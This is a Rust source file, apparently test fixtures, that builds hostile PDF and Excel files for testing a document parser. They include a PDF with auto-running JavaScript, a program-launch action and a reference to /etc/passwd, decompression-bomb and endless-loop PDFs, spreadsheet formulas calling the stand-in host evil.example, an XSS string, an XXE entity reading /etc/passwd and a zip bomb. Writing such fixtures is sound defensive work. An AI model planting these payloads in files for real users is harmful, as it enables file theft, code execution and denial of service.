//! Files built to do harm. All are made here; none comes from elsewhere.

use std::io::{Cursor, Write};

use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// An address that nothing of ours may ever ask.
pub const ELSEWHERE: &str = "http://evil.example/";

/// A whole PDF of these objects; the first is the catalogue.
pub fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let (mut file, mut places) = (b"%PDF-1.7\n".to_vec(), String::new());
    for (n, object) in objects.iter().enumerate() {
        places += &format!("{:010} 00000 n \n", file.len());
        file.extend(format!("{} 0 obj\n", n + 1).bytes());
        file.extend(object);
        file.extend(b"\nendobj\n");
    }
    let (start, count) = (file.len(), objects.len() + 1);
    let head = format!("xref\n0 {count}\n0000000000 65535 f \n{places}");
    file.extend(format!("{head}trailer\n<</Size {count}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n").bytes());
    file
}

/// Pages that all draw `content`; the dictionaries take what is added.
pub fn pages(count: usize, catalogue: &str, page: &str, content: Vec<u8>, more: &[Vec<u8>]) -> Vec<u8> {
    let first = 4 + more.len();
    let kids: String = (first..first + count).map(|n| format!("{n} 0 R ")).collect();
    let mut objects = vec![
        format!("<</Type/Catalog/Pages 2 0 R{catalogue}>>").into_bytes(),
        format!("<</Type/Pages/Kids[{kids}]/Count {count}/MediaBox[0 0 595 842]>>").into_bytes(),
        content,
    ];
    objects.extend_from_slice(more);
    let one = format!("<</Type/Page/Parent 2 0 R/Contents 3 0 R{page}>>").into_bytes();
    objects.extend(std::iter::repeat_n(one, count));
    pdf(&objects)
}

/// A stream object.
pub fn stream(dictionary: &str, data: &[u8]) -> Vec<u8> {
    let head = format!("<<{dictionary}/Length {}>>\nstream\n", data.len());
    [head.as_bytes(), data, b"\nendstream"].concat()
}

/// A PDF that would run a script, start a program, send a form and load a file.
pub fn scripted_pdf() -> Vec<u8> {
    let catalogue = format!(
        "/OpenAction<</S/JavaScript/JS(app.alert\\('hostile'\\);app.launchURL\\('{ELSEWHERE}'\\))>>\
         /AcroForm<</Fields[]>>"
    );
    let page = format!(
        "/Resources<</XObject<</X 4 0 R>>>>/AA<</O<</S/Launch/F(calc.exe)>>>>\
         /Annots[<</Type/Annot/Subtype/Link/Rect[0 0 595 842]/A<</S/URI/URI({ELSEWHERE})>>>>]"
    );
    let outside =
        "/Type/XObject/Subtype/Image/Width 1/Height 1/BitsPerComponent 8/ColorSpace/DeviceGray/F(/etc/passwd)";
    let content = stream("", b"0 0 1 rg 100 600 300 100 re f q 300 0 0 100 100 400 cm /X Do Q");
    pages(1, &catalogue, &page, content, &[stream(outside, b"")])
}

/// A PDF that wants gigabytes for one picture: zeros packed twice.
pub fn swelling_pdf() -> Vec<u8> {
    let packed = deflated(&[0x81, 0x00].repeat(14_000_000));
    let image = "/Type/XObject/Subtype/Image/Width 42000/Height 42000/BitsPerComponent 8/ColorSpace/DeviceGray\
                 /Filter[/FlateDecode/RunLengthDecode]";
    let content = stream("", b"q 595 0 0 842 0 0 cm /X Do Q");
    pages(1, "", "/Resources<</XObject<</X 4 0 R>>>>", content, &[stream(image, &packed)])
}

/// A PDF that goes round and round: whatever a machine's speed, its time is over
/// before it has taken much memory.
pub fn endless_pdf() -> Vec<u8> {
    let around = b"q 1 0 0 1 0 0 cm Q\n".repeat(200_000);
    let form = "/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Filter/FlateDecode";
    let content = stream("/Filter/FlateDecode", &deflated(&b"/F Do\n".repeat(20_000)));
    pages(1, "", "/Resources<</XObject<</F 4 0 R>>>>", content, &[stream(form, &deflated(&around))])
}

/// An Excel book of these parts besides the usual ones.
pub fn xlsx(sheet: &str, more: &[(&str, &[u8])]) -> Vec<u8> {
    const MAIN: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
    const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
    let types = format!(r#"<Types><Override PartName="/xl/workbook.xml" ContentType="{MAIN}"/></Types>"#);
    let book =
        format!(r#"<workbook xmlns:r="{REL}"><sheets><sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>"#);
    let to_book = format!(
        r#"<Relationships><Relationship Id="r1" Type="{REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>"#
    );
    let to_sheet = format!(
        r#"<Relationships><Relationship Id="r1" Type="{REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#
    );
    let parts: [(&str, &[u8]); 5] = [
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", to_book.as_bytes()),
        ("xl/workbook.xml", book.as_bytes()),
        ("xl/_rels/workbook.xml.rels", to_sheet.as_bytes()),
        ("xl/worksheets/sheet1.xml", sheet.as_bytes()),
    ];
    archive(&[&parts[..], more].concat())
}

/// Formulas that ask elsewhere, a hyperlink and a picture from elsewhere.
pub fn calling_xlsx() -> Vec<u8> {
    let sheet = format!(
        r#"<worksheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheetData>
        <row r="1"><c r="A1" t="str"><f>WEBSERVICE("{ELSEWHERE}")</f><v>前の値</v></c>
        <c r="B1" t="str"><f>HYPERLINK("{ELSEWHERE}","押す")</f><v>押す</v></c>
        <c r="C1" t="inlineStr"><is><t>&lt;img src=x onerror=alert(1)&gt;</t></is></c></row></sheetData>
        <hyperlinks><hyperlink ref="B1" r:id="h1"/></hyperlinks><drawing r:id="d1"/></worksheet>"#
    );
    let rels = format!(
        r#"<Relationships><Relationship Id="h1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="{ELSEWHERE}" TargetMode="External"/>
        <Relationship Id="d1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="{ELSEWHERE}a.png" TargetMode="External"/></Relationships>"#
    );
    xlsx(&sheet, &[("xl/worksheets/_rels/sheet1.xml.rels", rels.as_bytes())])
}

/// A book that takes values from another book.
pub fn linked_xlsx() -> Vec<u8> {
    xlsx("<worksheet><sheetData/></worksheet>", &[("xl/externalLinks/externalLink1.xml", b"<externalLink/>")])
}

/// A sheet whose text is a file of the server, or a text without end.
pub fn entity_xlsx() -> Vec<u8> {
    let sheet = r#"<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>
        <worksheet><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&e;&b;</t></is></c></row></sheetData></worksheet>"#;
    xlsx(sheet, &[])
}

/// Small outside, 300 MB inside.
pub fn bomb_xlsx() -> Vec<u8> {
    xlsx("<worksheet><sheetData/></worksheet>", &[("xl/media/a.bin", &vec![0; 300 << 20])])
}

pub fn archive(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, content) in entries {
        writer.start_file(*name, SimpleFileOptions::default()).expect("an entry");
        writer.write_all(content).expect("written");
    }
    writer.finish().expect("closed").into_inner()
}

/// As `FlateDecode` reads it (RFC 1950), the data taken out of an archive.
pub fn deflated(content: &[u8]) -> Vec<u8> {
    let archive = archive(&[("a", content)]);
    // Of the entry's head, the lengths of the name and what follows it are the last (APPNOTE 4.3.7).
    let extra = usize::from(u16::from_le_bytes([archive[28], archive[29]]));
    let start = 30 + 1 + extra;
    let directory = archive.windows(4).rposition(|four| four == b"PK\x01\x02").expect("a directory");
    [b"\x78\x9c", &archive[start..directory], &adler(content).to_be_bytes()].concat()
}

/// RFC 1950, 8.2.
fn adler(content: &[u8]) -> u32 {
    let (mut a, mut b) = (1_u32, 0_u32);
    for chunk in content.chunks(5_000) {
        for byte in chunk {
            a += u32::from(*byte);
            b += a;
        }
        (a, b) = (a % 65_521, b % 65_521);
    }
    (b << 16) | a
}
